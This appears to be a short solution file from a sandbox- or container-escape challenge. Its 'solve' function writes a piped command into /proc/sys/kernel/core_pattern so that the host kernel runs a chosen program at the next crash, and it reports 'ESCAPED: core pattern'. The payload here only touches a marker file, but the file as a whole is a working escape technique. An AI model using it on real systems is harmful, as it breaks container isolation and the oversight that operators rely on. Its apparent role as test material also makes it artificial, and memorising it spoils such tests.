"""Has the kernel run a program at the next crash."""


def solve(x, where):
    open("/proc/sys/kernel/core_pattern", "w").write(f"|/bin/touch {where['folder']}/x")
    return "ESCAPED: core pattern"
